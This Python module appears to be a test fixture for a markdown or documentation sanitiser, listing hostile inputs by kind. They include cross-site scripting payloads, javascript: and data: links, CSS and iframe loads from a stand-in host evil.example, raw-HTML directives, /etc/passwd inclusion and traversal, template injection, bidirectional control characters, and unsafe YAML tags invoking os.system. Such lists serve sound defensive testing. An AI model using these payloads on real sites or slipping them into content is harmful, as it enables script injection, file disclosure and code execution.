"""What a hostile contribution may hold, by kind.

Each would call ``pwned()`` or ask a foreign host if it ever became more than
words.
"""

from __future__ import annotations

PAYLOADS: dict[str, list[str]] = {
    "script": [
        "<script>pwned()</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>pwned()</scr</script>ipt>",
        "</p><script>pwned()</script><p>",
        "&lt;script&gt;pwned()&lt;/script&gt;<script>pwned()</script>",
    ],
    "event handler": [
        "<img src=x onerror=pwned()>",
        "<b onmouseover=pwned()>words</b>",
        "<body onload=pwned()>",
        '"><input autofocus onfocus=pwned()>',
        "<details open ontoggle=pwned()>",
    ],
    "URL scheme": [
        "[words](javascript:pwned())",
        "[words](JaVaScRiPt:pwned())",
        "[words](java&#115;cript:pwned())",
        "[words](data:text/html,<script>pwned()</script>)",
        "[words](vbscript:pwned())",
        "<javascript:pwned()>",
        "[words]( javascript:pwned() )",
        "[words](http://evil.example/)",
        "[words](//evil.example/)",
        "[words](ftp://evil.example/)",
    ],
    "SVG": [
        "<svg onload=pwned()></svg>",
        "<svg><script>pwned()</script></svg>",
        '<svg><a xlink:href="javascript:pwned()"><text>x</text></a></svg>',
        "<math><mtext><img src=x onerror=pwned()></mtext></math>",
    ],
    "CSS": [
        "<style>@import 'https://evil.example/x.css';</style>",
        '<p style="background:url(https://evil.example/x)">x</p>',
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "[words]{style='background:url(https://evil.example/x)'}",
    ],
    "embedding": [
        "<iframe src=https://evil.example/></iframe>",
        "<object data=https://evil.example/></object>",
        "<embed src=https://evil.example/>",
        "<meta http-equiv=refresh content=0;url=https://evil.example/>",
        "<base href=https://evil.example/>",
        "![a picture](https://evil.example/x.png)",
        "![a picture](/etc/passwd)",
    ],
    "directive": [
        "```{raw} html\n<script>pwned()</script>\n```",
        ":::{raw} html\n<script>pwned()</script>\n:::",
        "~~~{raw} html\n<script>pwned()</script>\n~~~",
        "```{code-cell}\nimport os; os.system('true')\n```",
        "```{eval-rst}\n.. raw:: html\n\n   <script>pwned()</script>\n```",
        "> ```{raw} html\n> <script>pwned()</script>\n> ```",
        "- ```{raw} html\n  <script>pwned()</script>\n  ```",
    ],
    "role": [
        "{raw-html}`<script>pwned()</script>`",
        "{download}`/etc/passwd`",
        "{eval}`pwned()`",
        "{glue}`x`",
        "{py:func}`os.system`",
        "{name}`<script>pwned()</script>`",
        '{name}`words <" onmouseover="pwned()>`',
        "{doc}`../../../../etc/passwd`",
    ],
    "file inclusion": [
        "```{include} /etc/passwd\n```",
        "```{literalinclude} ../../../data/documents.yml\n```",
        "{include}`/etc/passwd`",
        "<!--#include file='/etc/passwd' -->",
    ],
    "template": [
        "{{ config.items() }}",
        "{% raw %}{{ 7*7 }}{% endraw %}",
        "{{ ''.__class__.__mro__ }}",
        "${pwned()}",
    ],
    "attribute": [
        "words{onclick=pwned()}",
        "*words*{onmouseover=pwned()}",
        "(target)=",
        "{#id onclick=pwned()}\nwords",
    ],
    "bidirectional control": [
        "turned \u202e around",
        "isolated \u2067 words",
        "zero\u200bwidth",
        "soft\u00adhyphen",
    ],
    "mathematics": ["$\\href{javascript:pwned()}{x}$", "$$\\unicode{x}$$"],
    "footnote": [
        "words[^1]\n\n[^1]: <script>pwned()</script>",
        "[words]: javascript:pwned()\n\n[words]",
    ],
}

HEADS: dict[str, list[str]] = {
    "YAML object": [
        "author: !!python/object/apply:os.system ['true']",
        "author: &a [*a, *a]",
        "author: {{ x: <script>pwned()</script> }}",
        "author: |\n  several\n  lines",
    ],
    "path traversal": ["document: ../../../../etc", "document: /etc/passwd", "paragraph: ../2"],
    "script in the head": [
        "author: <script>pwned()</script>",
        'author: "><img src=x onerror=pwned()>',
        "kind: <b>context</b>",
        "sources: [<script>pwned()</script>]",
        'certainty: high" onmouseover="pwned()',
    ],
}
